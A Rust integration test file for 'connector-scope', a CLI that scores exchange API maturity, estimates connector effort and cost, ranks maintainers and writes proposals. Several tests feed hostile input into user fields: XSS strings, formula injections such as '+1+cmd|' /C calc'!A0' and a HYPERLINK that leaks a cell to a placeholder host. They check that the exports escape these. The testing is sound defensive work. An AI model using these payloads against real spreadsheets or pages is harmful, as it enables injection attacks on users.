//! The binary as a user runs it.

// A failed unwrap in a test is a failed test, with its line.
#![allow(clippy::unwrap_used)]

use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

fn case(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/cases")
        .join(name)
        .display()
        .to_string()
}

fn connector_scope(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_connector-scope"))
        .args(args)
        .output()
        .expect("the binary runs")
}

fn with_stdin(args: &[&str], input: &str) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_connector-scope"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the binary runs");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    child.wait_with_output().unwrap()
}

fn json(out: &Output) -> serde_json::Value {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("JSON on stdout")
}

fn keys(v: &serde_json::Value) -> Vec<&str> {
    v.as_object().unwrap().keys().map(String::as_str).collect()
}

#[test]
fn prints_its_version() {
    let out = connector_scope(&["--version"]);
    assert!(out.status.success());
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        format!("connector-scope {}", env!("CARGO_PKG_VERSION"))
    );
}

#[test]
fn bad_usage_exits_2_and_says_why() {
    let out = connector_scope(&["--no-such-flag"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--no-such-flag"));
}

#[test]
fn maturity_json_keeps_its_keys() {
    let v = json(&connector_scope(&["maturity", &case("blocked.json")]));
    for key in ["score", "rank", "blockers", "sections", "findings"] {
        assert!(keys(&v).contains(&key), "{key} missing: {:?}", keys(&v));
    }
    assert_eq!(v["rank"], "blocked");
    assert_eq!(v["blockers"][0]["item"], "rest_server_time");
}

#[test]
fn estimate_json_keeps_its_keys() {
    let v = json(&connector_scope(&[
        "estimate",
        &case("mature-spot-cex.json"),
        "--format",
        "json",
    ]));
    for key in [
        "effort_hours",
        "calendar_days",
        "p_over_90_days",
        "cost",
        "tasks",
        "constraints",
    ] {
        assert!(keys(&v).contains(&key), "{key} missing");
    }
    for key in ["mean", "sd", "p50", "p80", "p90"] {
        assert!(v["effort_hours"]["pert"][key].is_number(), "pert.{key}");
    }
    for key in ["mean", "p10", "p50", "p80", "p90", "samples", "seed"] {
        assert!(
            v["effort_hours"]["monte_carlo"][key].is_number(),
            "monte_carlo.{key}"
        );
    }
    for key in ["p50", "p80", "p90"] {
        assert!(v["calendar_days"][key].is_number());
        // Money is a decimal string, never a float.
        assert!(v["cost"][key].is_string(), "cost.{key}");
    }
    assert_eq!(v["cost"]["currency"], "USD");
    assert_eq!(v["effort_hours"]["monte_carlo"]["samples"], 10_000);
    // The span the record measures, and the outside view beside it.
    for key in ["p10", "p50", "p80", "p90"] {
        assert!(v["calendar_days"]["build"][key].is_number(), "build.{key}");
    }
    let rc = &v["reference_class"];
    assert_eq!(rc["class"], "spot CEX connectors built without a precedent");
    assert_eq!(rc["connectors"].as_array().unwrap().len(), 12);
    assert!(rc["connectors"][0]["name"].is_string() && rc["connectors"][0]["days"].is_number());
    assert!(rc["percentile_of_p50"].is_number());
    assert!(
        v["calibration"]
            .as_str()
            .unwrap()
            .starts_with("Calendar ranges calibrated on 25 connector builds, 2020-2024:")
    );
}

/// The backtest as a script reads it, and as CALIBRATION.md.
#[test]
fn backtest_prints_json_and_the_calibration_file() {
    let v = json(&connector_scope(&["backtest"]));
    assert_eq!(v["builds"], 25);
    assert_eq!(v["rows"].as_array().unwrap().len(), 25);
    for key in [
        "within_p10_p90",
        "at_or_under_p50",
        "median_abs_log_error",
        "pit_deciles",
    ] {
        assert!(
            !v["model"][key].is_null() && !v["naive"][key].is_null(),
            "{key}"
        );
    }
    let out = connector_scope(&["backtest", "--format", "markdown"]);
    assert!(out.status.success());
    let committed = std::fs::read_to_string(
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../CALIBRATION.md"),
    )
    .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim_end(),
        committed.trim_end()
    );
    let csv = connector_scope(&["backtest", "--format", "csv"]);
    assert_eq!(csv.status.code(), Some(2));
}

#[test]
fn plan_json_keeps_its_keys() {
    let v = json(&connector_scope(&[
        "plan",
        &case("modification-kucoin.json"),
    ]));
    assert_eq!(v["path"], "foundation_grant");
    let stages = v["stages"].as_array().unwrap();
    assert_eq!(stages.len(), 9);
    for key in ["id", "applies", "reason", "days"] {
        assert!(stages[0].get(key).is_some(), "stages[].{key}");
    }
    assert_eq!(stages[4]["id"], "improvement_proposal");
    assert_eq!(stages[4]["applies"], "required");
}

#[test]
fn reads_standard_input_and_prints_markdown() {
    let text = std::fs::read_to_string(case("mature-spot-cex.json")).unwrap();
    let out = with_stdin(&["maturity", "-", "--format", "markdown"], &text);
    assert!(out.status.success());
    let md = String::from_utf8_lossy(&out.stdout);
    assert!(md.starts_with("# API maturity: Kestrel Exchange"), "{md}");
    assert!(md.contains("rank A, mature"));
}

#[test]
fn invalid_case_exits_2_with_the_field() {
    let out = with_stdin(
        &["maturity"],
        r#"{"version": 1, "exchange": {"name": "X"}, "api": {"ws_order_book": "maybe"}}"#,
    );
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(r#"api.ws_order_book: unknown answer "maybe""#),
        "{err}"
    );

    let out = with_stdin(
        &["estimate"],
        r#"{"version": 1, "exchange": {"name": "X"}}"#,
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("estimate.hourly_rate"));

    let out = connector_scope(&["plan", "/no/such/case.json"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read /no/such/case.json"));
}

#[test]
fn same_file_same_numbers() {
    let a = connector_scope(&["estimate", &case("young-perp-dex.json")]);
    let b = connector_scope(&["estimate", &case("young-perp-dex.json")]);
    assert_eq!(a.stdout, b.stdout);
}

#[test]
fn prints_the_committed_schema() {
    let out = connector_scope(&["schema"]);
    let committed = std::fs::read_to_string(
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../schema/case.schema.json"),
    )
    .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), committed);
}

#[test]
fn evaluate_json_keeps_its_keys() {
    let v = json(&connector_scope(&[
        "evaluate",
        &case("mature-spot-cex.json"),
    ]));
    for key in [
        "method",
        "normalization",
        "weights",
        "ranking",
        "contributions",
        "dominated",
        "sensitivity",
    ] {
        assert!(keys(&v).contains(&key), "{key} missing: {:?}", keys(&v));
    }
    assert_eq!(v["method"], "weighted_sum");
    assert_eq!(v["normalization"], "max");
    assert_eq!(v["weights"]["experience"], 0.2);
    assert_eq!(v["ranking"][0]["name"], "Ana Ribeiro");
    assert_eq!(v["ranking"][0]["rank"], 1);
    assert!(v["ranking"][0]["score"].is_number());
    assert!(v.get("ahp").is_none(), "no ahp without AHP weights");
}

#[test]
fn evaluate_prints_csv_and_agreement_prints_decimal_strings() {
    let out = connector_scope(&["evaluate", &case("mature-spot-cex.json"), "--format", "csv"]);
    let csv = String::from_utf8_lossy(&out.stdout);
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some(
            "rank,name,score,seniority,experience,references,track_record,availability,cost,speed,interest"
        )
    );
    assert!(lines.next().unwrap().starts_with("1,Ana Ribeiro,"));

    let v = json(&connector_scope(&[
        "agreement",
        &case("mature-spot-cex.json"),
    ]));
    assert_eq!(v["months"].as_array().unwrap().len(), 12);
    assert_eq!(v["months"][0]["total"], "1500.00");
    assert_eq!(v["months"][0]["developer"], "300.00");
    assert_eq!(v["months"][0]["foundation"], "1200.00");
    assert_eq!(v["totals"]["total"], "18000.00");
    assert_eq!(v["totals"]["developer"], "3600.00");

    let out = connector_scope(&["agreement", &case("blocked.json")]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("agreement: missing"));
    let out = connector_scope(&["maturity", &case("blocked.json"), "--format", "csv"]);
    assert_eq!(out.status.code(), Some(2));
}

/// The proposal a PM sends to the exchange: every section, the figures of the other commands,
/// nothing left unfilled.
#[test]
fn proposal_is_complete_and_agrees_with_the_other_commands() {
    let out = connector_scope(&["proposal", &case("mature-spot-cex.json")]);
    assert!(out.status.success());
    let md = String::from_utf8_lossy(&out.stdout);
    for heading in [
        "# Connector proposal: Kestrel Exchange",
        "## Summary",
        "## Stages and timeline",
        "## API maturity",
        "## Effort, duration and cost",
        "## Maintainer",
        "## Agreement and compensation",
        "## Next step",
    ] {
        assert!(md.contains(heading), "{heading} missing");
    }
    let estimate = json(&connector_scope(&[
        "estimate",
        &case("mature-spot-cex.json"),
    ]));
    let p80 = estimate["cost"]["p80"]
        .as_str()
        .unwrap()
        .parse::<f64>()
        .unwrap();
    assert!(
        md.contains(&format!("USD {} at P80", group(p80))),
        "P80 cost {p80} not in the proposal"
    );
    assert!(md.contains("Proposed maintainer: **Ana Ribeiro**"));
    assert!(md.contains("rank A, mature"));
    for leftover in ["NaN", "inf", "{", "}", "null", "Some(", "None"] {
        assert!(!md.contains(leftover), "{leftover:?} in the proposal");
    }

    let out = connector_scope(&["announcement", &case("mature-spot-cex.json")]);
    let md = String::from_utf8_lossy(&out.stdout);
    assert!(md.contains("has selected **Ana Ribeiro**"));
    assert!(md.contains("| Past experience | better | 20.0% |"));
    let out = connector_scope(&[
        "proposal",
        &case("mature-spot-cex.json"),
        "--format",
        "json",
    ]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn a_case_without_a_rate_still_gets_a_proposal_that_says_so() {
    let out = with_stdin(
        &["proposal"],
        r#"{"version": 1, "exchange": {"name": "Bare"}}"#,
    );
    assert!(out.status.success());
    let md = String::from_utf8_lossy(&out.stdout);
    assert!(
        md.contains("not estimated yet (estimate.hourly_rate: required"),
        "{md}"
    );
}

fn group(x: f64) -> String {
    let cents = format!("{x:.2}");
    let (whole, frac) = cents.split_once('.').unwrap();
    let mut out = String::new();
    for (i, c) in whole.chars().enumerate() {
        if i > 0 && (whole.len() - i) % 3 == 0 {
            out.push(',');
        }
        out.push(c);
    }
    format!("{out}.{frac}")
}

/// `connector-scope evaluate big.json | head -1`: the reader closes the pipe after one line; the
/// output (72 KB for 50 candidates) outgrows the 64 KB pipe buffer, so the write always meets
/// the closed pipe.
#[test]
fn a_closed_pipe_ends_the_output_quietly() {
    use std::io::Read;
    let mut child = Command::new(env!("CARGO_BIN_EXE_connector-scope"))
        .args(["evaluate", &case("largest-case.json")])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the binary runs");
    let mut first = [0u8; 1];
    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
    // The read end is dropped here: later writes get EPIPE (Rust ignores SIGPIPE).
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{:?}: {stderr}", out.status);
    assert!(!stderr.contains("panicked"), "{stderr}");
}

/// The mature example with hostile text in every field a user types.
fn hostile_case(symbol: &str) -> String {
    let text = std::fs::read_to_string(case("mature-spot-cex.json")).unwrap();
    let mut c: serde_json::Value = serde_json::from_str(&text).unwrap();
    c["exchange"]["name"] = "<script>alert(1)</script> | # X".into();
    let names = [
        "=HYPERLINK(\"http://x/?\"&B2,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "<img src=x onerror=alert(1)>",
        "[t](javascript:alert(1))",
    ];
    let first = c["candidates"][0].clone();
    c["candidates"] = names
        .iter()
        .enumerate()
        .map(|(i, n)| {
            let mut cand = first.clone();
            cand["name"] = (*n).into();
            cand["values"]["seniority"] = (i as u64 + 1).into();
            cand
        })
        .collect();
    c["criteria"] = serde_json::json!([
        {"id": "seniority", "label": "[t](javascript:alert(1))", "kind": "benefit", "weight": 1},
        {"id": "cost", "label": "<img src=x onerror=alert(2)>", "kind": "cost", "weight": 1}
    ]);
    for cand in c["candidates"].as_array_mut().unwrap() {
        let values = cand["values"].as_object_mut().unwrap();
        values.retain(|k, _| k == "seniority" || k == "cost");
    }
    c["estimate"]["tasks"] = serde_json::json!([
        {"id": "t1", "label": "<img src=x onerror=alert(3)>", "optimistic": 1, "most_likely": 2, "pessimistic": 3}
    ]);
    c["agreement"]["incentives"]["exchange_token_symbol"] = symbol.into();
    c.to_string()
}

/// No field of a CSV the command writes would run as a spreadsheet formula (OWASP: a cell
/// starting with = + - @ tab or CR), and the names are all there, behind a quote.
#[test]
fn csv_exports_neutralize_formulas() {
    let out = with_stdin(&["evaluate", "--format", "csv"], &hostile_case("KST"));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let csv = String::from_utf8_lossy(&out.stdout);
    let mut rows = 0;
    for line in csv.lines().skip(1) {
        let name = line.split(',').nth(1).unwrap().trim_start_matches('"');
        assert!(
            !name.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a live formula: {line}"
        );
        rows += 1;
    }
    assert_eq!(rows, 6);
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"Click\"\")\""),
        "{csv}"
    );
    assert!(csv.contains(",'-2+3,"), "{csv}");
}

/// User text is text in every Markdown document: no HTML tag, link, heading or table cell of
/// its own.
#[test]
fn markdown_exports_escape_user_text() {
    let case = hostile_case("<b>KST</b>");
    for command in [
        vec!["proposal"],
        vec!["announcement"],
        vec!["evaluate", "--format", "markdown"],
        vec!["estimate", "--format", "markdown"],
        vec!["maturity", "--format", "markdown"],
        vec!["plan", "--format", "markdown"],
        vec!["agreement", "--format", "markdown"],
    ] {
        let out = with_stdin(&command, &case);
        assert!(
            out.status.success(),
            "{command:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let md = String::from_utf8_lossy(&out.stdout);
        for raw in ["<img", "<script", "<b>", "](javascript"] {
            // Escaped, the text is preceded by a backslash.
            let unescaped = md.match_indices(raw).any(|(i, _)| !md[..i].ends_with('\\'));
            assert!(!unescaped, "{command:?} writes {raw:?} raw:\n{md}");
        }
        assert!(
            md.lines()
                .next()
                .unwrap()
                .contains("\\<script\\>alert(1)\\</script\\> \\| \\# X"),
            "{command:?}: {md}"
        );
    }
    let md = String::from_utf8_lossy(&with_stdin(&["proposal"], &case).stdout).to_string();
    assert!(md.contains("\\<b\\>KST\\</b\\>"), "{md}");
}

/// A token symbol that would add lines to the proposal is refused, naming its field.
#[test]
fn one_line_fields_refuse_line_breaks() {
    let out = with_stdin(&["proposal"], &hostile_case("KST\n# Heading\n| a | b |"));
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("agreement.incentives.exchange_token_symbol: must be one line"),
        "{err}"
    );
    let out = with_stdin(&["proposal"], &hostile_case(&"K".repeat(17)));
    assert!(String::from_utf8_lossy(&out.stderr).contains("must be at most 16 characters"));
}

/// `validate` lists every problem at once and exits 2; a valid case lists what each command
/// still needs and exits 0.
#[test]
fn validate_lists_problems_and_needs() {
    let out = with_stdin(
        &["validate"],
        r#"{"version": 1, "exchange": {"name": ""}, "estimate": {"availability_hours_per_week": 500, "currency": "usd"}}"#,
    );
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    for field in [
        "exchange.name",
        "estimate.availability_hours_per_week",
        "estimate.currency",
    ] {
        assert!(err.contains(field), "{field} missing in {err}");
    }
    let out = with_stdin(
        &["validate"],
        r#"{"version": 1, "exchange": {"name": "X"}}"#,
    );
    let checks = json(&out);
    let paths: Vec<&str> = checks
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["estimate.hourly_rate", "candidates", "agreement"]);
    assert_eq!(checks[0]["needed_by"][0], "the estimate");
    assert_eq!(
        json(&connector_scope(&[
            "validate",
            &case("mature-spot-cex.json")
        ])),
        serde_json::json!([])
    );
}

fn fixture(name: &str) -> String {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../scope-scan/tests/fixtures")
        .join(name)
        .display()
        .to_string()
}

#[test]
fn scan_prints_answers_evidence_and_what_was_not_found() {
    let out = connector_scope(&[
        "scan",
        &fixture("spot_openapi.yaml"),
        &fixture("ws_asyncapi.yaml"),
    ]);
    let v = json(&out);
    assert_eq!(keys(&v), ["answers", "documents", "evidence", "not_found"]);
    assert_eq!(v["answers"]["rest_order_book"], "documented_with_examples");
    assert_eq!(v["answers"]["ws_order_book"], "documented_with_examples");
    let e = &v["evidence"]["rest_order_book"][0];
    assert_eq!(e["source"], "spot_openapi.yaml");
    assert_eq!(e["location"], "GET /api/v1/depth");
    assert_eq!(v["not_found"], serde_json::json!(["official_sdk"]));
    // Perpetual items count only for a perpetual market.
    let perp = json(&connector_scope(&[
        "scan",
        &fixture("perp_swagger.json"),
        "--market",
        "perpetual",
    ]));
    assert_eq!(perp["answers"]["perp_leverage"], "documented");
    let spot = json(&connector_scope(&["scan", &fixture("perp_swagger.json")]));
    assert!(spot["answers"].get("perp_leverage").is_none());
    assert!(
        !spot["not_found"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i == "perp_leverage")
    );
}

#[test]
fn scan_refuses_when_no_document_is_an_api_description() {
    let dir = std::env::temp_dir().join(format!("scope-scan-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let notes = dir.join("notes.yaml");
    std::fs::write(&notes, "title: my notes\n").unwrap();
    let out = connector_scope(&["scan", notes.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("notes.yaml: not an OpenAPI"), "{err}");
    // One readable document among unreadable ones is enough; the others are named.
    let out = connector_scope(&[
        "scan",
        notes.to_str().unwrap(),
        &fixture("ws_asyncapi.yaml"),
    ]);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("notes.yaml"));
    let missing = connector_scope(&["scan", "/no/such/file.yaml"]);
    assert_eq!(missing.status.code(), Some(2));
}

#[test]
fn into_writes_the_answers_and_keeps_the_cases_own() {
    let dir = std::env::temp_dir().join(format!("scope-into-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("case.json");
    std::fs::write(
        &path,
        r#"{"version": 1, "exchange": {"name": "X"}, "api": {"rest_order_book": "partial"}}"#,
    )
    .unwrap();
    let p = path.to_str().unwrap();
    let out = connector_scope(&["scan", &fixture("spot_openapi.yaml"), "--into", p]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let case: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(
        case["api"]["rest_order_book"], "partial",
        "the case's own answer stays"
    );
    assert_eq!(case["api"]["rest_markets"], "documented");
    assert_eq!(case["api_sources"]["rest_markets"], "spot_openapi.yaml");
    assert!(case["api_sources"].get("rest_order_book").is_none());
    let out = connector_scope(&[
        "scan",
        &fixture("spot_openapi.yaml"),
        "--into",
        p,
        "--replace",
    ]);
    assert!(out.status.success());
    let case: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    assert_eq!(case["api"]["rest_order_book"], "documented_with_examples");
    // The written case reads back as a valid case.
    assert!(connector_scope(&["maturity", p]).status.success());
}

#[test]
fn prefill_from_ccxt_names_its_release_and_suggests_ids() {
    let v = json(&connector_scope(&["prefill", "--ccxt", "kraken"]));
    assert_eq!(v["answers"]["rest_order_book"], "partial");
    let source = v["evidence"]["rest_order_book"][0]["source"]
        .as_str()
        .unwrap();
    assert!(
        source.starts_with("CCXT 4.") && source.ends_with("(kraken)"),
        "{source}"
    );
    let out = connector_scope(&["prefill", "--ccxt", "krakn"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("did you mean Kraken"));
    // A name works as the web app's search takes it.
    assert!(
        connector_scope(&["prefill", "--ccxt", "Kraken"])
            .status
            .success()
    );
    let out = connector_scope(&["prefill", "--ccxt", "bin"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("exchanges match \"bin\""));
    let md = connector_scope(&["prefill", "--ccxt", "kraken", "--format", "markdown"]);
    assert!(
        String::from_utf8_lossy(&md.stdout)
            .contains("| Order book snapshot | Partial or undocumented |")
    );
}

#[test]
fn scan_leaves_out_what_is_not_text_and_reads_standard_input() {
    let dir = std::env::temp_dir().join(format!("scope-scan-bytes-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let garbage = dir.join("garbage.bin");
    std::fs::write(&garbage, [0xC3u8, 0x28, 0xFF, 0x00, 0x80]).unwrap();
    let out = connector_scope(&[
        "scan",
        garbage.to_str().unwrap(),
        &fixture("ws_asyncapi.yaml"),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("garbage.bin: not text"));
    // UTF-16 with its byte-order mark is text.
    let swagger = std::fs::read_to_string(fixture("perp_swagger.json")).unwrap();
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(swagger.encode_utf16().flat_map(u16::to_le_bytes));
    let wide = dir.join("perp16.json");
    std::fs::write(&wide, utf16).unwrap();
    let v = json(&connector_scope(&["scan", wide.to_str().unwrap()]));
    assert_eq!(v["documents"][0]["format"], "Swagger 2.0");
    let yaml = std::fs::read_to_string(fixture("spot_openapi.yaml")).unwrap();
    let v = json(&with_stdin(&["scan", "-"], &yaml));
    assert_eq!(v["documents"][0]["name"], "standard input");
}

#[test]
fn into_leaves_the_file_alone_when_nothing_changes() {
    let dir = std::env::temp_dir().join(format!("scope-into-same-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("case.json");
    let text = r#"{"version": 1, "exchange": {"name": "X"}}"#;
    std::fs::write(&path, text).unwrap();
    let out = connector_scope(&[
        "scan",
        &fixture("no_trading.json"),
        "--into",
        path.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("no answer to write"));
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        text,
        "byte for byte"
    );
}
